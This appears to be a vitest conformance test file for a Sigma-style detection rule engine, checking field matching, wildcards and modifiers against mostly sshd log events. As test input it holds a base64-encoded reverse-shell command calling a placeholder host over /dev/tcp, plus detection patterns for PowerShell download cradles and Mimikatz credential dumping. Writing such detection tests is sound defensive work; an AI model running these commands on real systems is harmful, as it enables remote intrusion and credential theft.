import { describe, expect, it } from 'vitest';
import { parseRuleSources } from './loader.ts';

/** Compiles one detection (YAML body of `detection:`) and returns a function that matches events. */
function detection(body: string): (event: unknown) => boolean {
  const text = `title: conformance\nid: conformance-rule\nlogsource: {product: test}\ndetection:\n${body.replace(/^/gm, '  ')}\n`;
  const { ruleset, problems } = parseRuleSources([{ file: 'conformance.yml', text }]);
  expect(problems).toEqual([]);
  const rule = ruleset.detections[0]!;
  const ctx = ruleset.createContext();
  return (event) => {
    ctx.reset(event);
    return rule.matcher(ctx);
  };
}

const sshd = (message: string, extra: Record<string, unknown> = {}) => ({ message, process: { name: 'sshd', pid: 811 }, ...extra });

describe('field values', () => {
  it('compares strings case-insensitively and numbers exactly', () => {
    const match = detection('sel:\n  process.name: SSHD\n  source.port: 22\ncondition: sel');
    expect(match(sshd('x', { source: { port: 22 } }))).toBe(true);
    expect(match(sshd('x', { source: { port: 2222 } }))).toBe(false);
    expect(match(sshd('x', { source: { port: '22' } }))).toBe(true);
    expect(match({ process: { name: 'sshd-session' }, source: { port: 22 } })).toBe(false);
  });

  it('treats a list of values as alternatives and a Set lookup stays exact', () => {
    const match = detection('sel:\n  event.action: [ssh_login, SSH_Invalid_User, pam_authentication_failure]\ncondition: sel');
    expect(match({ event: { action: 'ssh_invalid_user' } })).toBe(true);
    expect(match({ event: { action: 'ssh_login_extra' } })).toBe(false);
  });

  it('matches an array-valued field when any element matches', () => {
    const match = detection('sel:\n  event.category: authentication\ncondition: sel');
    expect(match({ event: { category: ['process', 'Authentication'] } })).toBe(true);
    expect(match({ event: { category: ['process'] } })).toBe(false);
  });

  it('matches null only when the field is absent, null or empty', () => {
    const match = detection('sel:\n  process.name: sshd\n  user.name: null\ncondition: sel');
    expect(match(sshd('Connection closed by 203.0.113.7 port 52814 [preauth]'))).toBe(true);
    expect(match(sshd('x', { user: { name: 'root' } }))).toBe(false);
    expect(match(sshd('x', { user: { name: '' } }))).toBe(false);
  });

  it('matches booleans against booleans and their text', () => {
    const match = detection('sel:\n  labels.tty: true\ncondition: sel');
    expect(match({ labels: { tty: 'TRUE' } })).toBe(true);
    expect(match({ labels: { tty: 'false' } })).toBe(false);
  });
});

describe('wildcards', () => {
  it('supports * and ? in values', () => {
    const match = detection("sel:\n  message: 'Failed password for * from 203.0.113.? port *'\ncondition: sel");
    expect(match(sshd('Failed password for root from 203.0.113.7 port 52814 ssh2'))).toBe(true);
    expect(match(sshd('Failed password for root from 203.0.113.77 port 52814 ssh2'))).toBe(false);
  });

  it('takes escaped \\* and \\? literally and keeps lone backslashes', () => {
    const match = detection(String.raw`sel:
  process.command_line: 'C:\Windows\System32\cmd.exe /c echo \*done\?'
condition: sel`);
    expect(match({ process: { command_line: 'c:\\windows\\system32\\CMD.exe /c echo *done?' } })).toBe(true);
    expect(match({ process: { command_line: 'C:\\Windows\\System32\\cmd.exe /c echo xdonex' } })).toBe(false);
  });

  it('treats \\\\* as a literal backslash followed by a wildcard', () => {
    const match = detection(String.raw`sel:
  file.path|startswith: 'C:\\*'
condition: sel`);
    expect(match({ file: { path: 'C:\\anything' } })).toBe(true);
  });
});

describe('string modifiers', () => {
  it('contains, startswith and endswith', () => {
    const contains = detection('sel:\n  message|contains: POSSIBLE BREAK-IN\ncondition: sel');
    const starts = detection('sel:\n  message|startswith: accepted\ncondition: sel');
    const ends = detection('sel:\n  message|endswith: ssh2\ncondition: sel');
    const line = sshd('Accepted password for deploy from 192.0.2.10 port 50122 ssh2');
    expect(contains(sshd('reverse mapping ... failed - possible break-in attempt!'))).toBe(true);
    expect(starts(line)).toBe(true);
    expect(ends(line)).toBe(true);
    expect(ends(sshd('ssh2 session started'))).toBe(false);
  });

  it('all requires every value; without it any value is enough', () => {
    const all = detection('sel:\n  message|contains|all: [failed, password, root]\ncondition: sel');
    const any = detection('sel:\n  message|contains: [publickey, keyboard-interactive]\ncondition: sel');
    expect(all(sshd('Failed password for root from 203.0.113.7'))).toBe(true);
    expect(all(sshd('Failed password for admin from 203.0.113.7'))).toBe(false);
    expect(any(sshd('Failed publickey for git'))).toBe(true);
    expect(any(sshd('Failed password for git'))).toBe(false);
  });

  it('all across an array field lets different elements satisfy different values', () => {
    const match = detection('sel:\n  process.args|all: [-o, StrictHostKeyChecking=no]\ncondition: sel');
    expect(match({ process: { args: ['ssh', '-o', 'StrictHostKeyChecking=no', 'root@10.0.0.5'] } })).toBe(true);
    expect(match({ process: { args: ['ssh', '-o', 'BatchMode=yes'] } })).toBe(false);
  });

  it('cased makes the comparison case-sensitive', () => {
    const match = detection('sel:\n  message|cased|contains: BREAK-IN\ncondition: sel');
    expect(match(sshd('POSSIBLE BREAK-IN ATTEMPT!'))).toBe(true);
    expect(match(sshd('possible break-in attempt!'))).toBe(false);
  });

  it('windash matches every dash variant of a command-line flag', () => {
    const match = detection('sel:\n  process.command_line|windash|contains: " -enc "\ncondition: sel');
    expect(match({ process: { command_line: 'powershell.exe /enc SQBFAFgA' } })).toBe(true);
    expect(match({ process: { command_line: 'powershell.exe \u2013enc SQBFAFgA' } })).toBe(true);
    expect(match({ process: { command_line: 'powershell.exe enc SQBFAFgA' } })).toBe(false);
  });

  it('base64 and base64offset find encoded values wherever they sit', () => {
    const plain = detection('sel:\n  process.command_line|base64|contains: "IEX (New-Object"\ncondition: sel');
    const offset = detection('sel:\n  process.command_line|base64offset|contains: "/bin/sh -i"\ncondition: sel');
    expect(plain({ process: { command_line: `powershell -e ${Buffer.from('IEX (New-Object Net.WebClient)').toString('base64')}` } })).toBe(true);
    for (const prefix of ['', 'x', 'xy', 'bash -c ']) {
      const encoded = Buffer.from(`${prefix}/bin/sh -i >& /dev/tcp/203.0.113.9/4444 0>&1`).toString('base64');
      expect(offset({ process: { command_line: `echo ${encoded} | base64 -d | sh` } })).toBe(true);
    }
    expect(offset({ process: { command_line: `echo ${Buffer.from('/bin/bash').toString('base64')}` } })).toBe(false);
  });

  it('wide encodes UTF-16LE before base64', () => {
    const match = detection('sel:\n  process.command_line|wide|base64offset|contains: "Invoke-Mimikatz"\ncondition: sel');
    const encoded = Buffer.from('powershell Invoke-Mimikatz -DumpCreds', 'utf16le').toString('base64');
    expect(match({ process: { command_line: `powershell.exe -EncodedCommand ${encoded}` } })).toBe(true);
  });
});

describe('other modifiers', () => {
  it('re matches case-sensitively unless i is given, anywhere in the value', () => {
    const sensitive = detection("sel:\n  message|re: 'Failed (password|publickey) for (invalid user )?\\w+'\ncondition: sel");
    const insensitive = detection("sel:\n  message|re|i: '^failed password'\ncondition: sel");
    const inline = detection("sel:\n  message|re: '(?i)^failed password'\ncondition: sel");
    expect(sensitive(sshd('Failed publickey for invalid user git from 2001:db8::44'))).toBe(true);
    expect(sensitive(sshd('failed publickey for git'))).toBe(false);
    expect(insensitive(sshd('FAILED PASSWORD for root'))).toBe(true);
    expect(inline(sshd('FAILED PASSWORD for root'))).toBe(true);
  });

  it('cidr matches IPv4 and IPv6 networks', () => {
    const match = detection('sel:\n  source.ip|cidr: [10.0.0.0/8, 192.168.0.0/16, "2001:db8::/32"]\ncondition: sel');
    expect(match({ source: { ip: '10.20.30.40' } })).toBe(true);
    expect(match({ source: { ip: '2001:db8:1::5' } })).toBe(true);
    expect(match({ source: { ip: '203.0.113.7' } })).toBe(false);
    expect(match({ source: { ip: 'not-an-ip' } })).toBe(false);
  });

  it('exists checks presence only', () => {
    const present = detection('sel:\n  user.name|exists: true\ncondition: sel');
    const absent = detection('sel:\n  user.name|exists: false\ncondition: sel');
    expect(present({ user: { name: '' } })).toBe(true);
    expect(absent({ user: { id: '0' } })).toBe(true);
    expect(absent({ user: { name: 'root' } })).toBe(false);
  });

  it('lt, lte, gt and gte compare numbers', () => {
    const high = detection('sel:\n  source.port|gte: 1024\ncondition: sel');
    const low = detection('sel:\n  source.port|lt: 1024\ncondition: sel');
    expect(high({ source: { port: 52814 } })).toBe(true);
    expect(high({ source: { port: 1023 } })).toBe(false);
    expect(low({ source: { port: '22' } })).toBe(true);
    expect(low({ source: { port: 'ssh' } })).toBe(false);
  });

  it('neq matches a present field different from every value', () => {
    const match = detection('sel:\n  user.name|neq: [root, admin]\ncondition: sel');
    expect(match({ user: { name: 'deploy' } })).toBe(true);
    expect(match({ user: { name: 'ROOT' } })).toBe(false);
    expect(match({})).toBe(false);
  });

  it('fieldref compares two fields of the same event', () => {
    const match = detection('sel:\n  user.name|fieldref: user.target.name\ncondition: sel');
    expect(match({ user: { name: 'alice', target: { name: 'alice' } } })).toBe(true);
    expect(match({ user: { name: 'alice', target: { name: 'root' } } })).toBe(false);
  });

  it('time modifiers extract parts of a date in UTC', () => {
    const match = detection("sel:\n  '@timestamp|hour|lt': 6\ncondition: sel");
    expect(match({ '@timestamp': '2026-11-20T03:14:07Z' })).toBe(true);
    expect(match({ '@timestamp': '2026-11-20T09:14:07+02:00' })).toBe(false);
  });
});

describe('keywords', () => {
  it('searches message and event.original anywhere, case-insensitively', () => {
    const match = detection("keywords:\n  - 'POSSIBLE BREAK-IN ATTEMPT'\n  - 'Bad protocol version identification'\ncondition: keywords");
    expect(match({ message: 'reverse mapping checking getaddrinfo for x [203.0.113.50] failed - possible break-in attempt!' })).toBe(true);
    expect(match({ event: { original: "<38>Nov 20 sshd[1]: Bad protocol version identification 'GET / HTTP/1.1'" } })).toBe(true);
    expect(match({ message: 'Accepted publickey for deploy' })).toBe(false);
  });
});

describe('maps and lists of maps', () => {
  it('a map is an AND of its fields; a list of maps is an OR of maps', () => {
    const match = detection(
      'sel:\n  - event.action: ssh_login\n    event.outcome: failure\n  - event.action: ssh_invalid_user\ncondition: sel',
    );
    expect(match({ event: { action: 'ssh_login', outcome: 'failure' } })).toBe(true);
    expect(match({ event: { action: 'ssh_login', outcome: 'success' } })).toBe(false);
    expect(match({ event: { action: 'ssh_invalid_user' } })).toBe(true);
  });
});
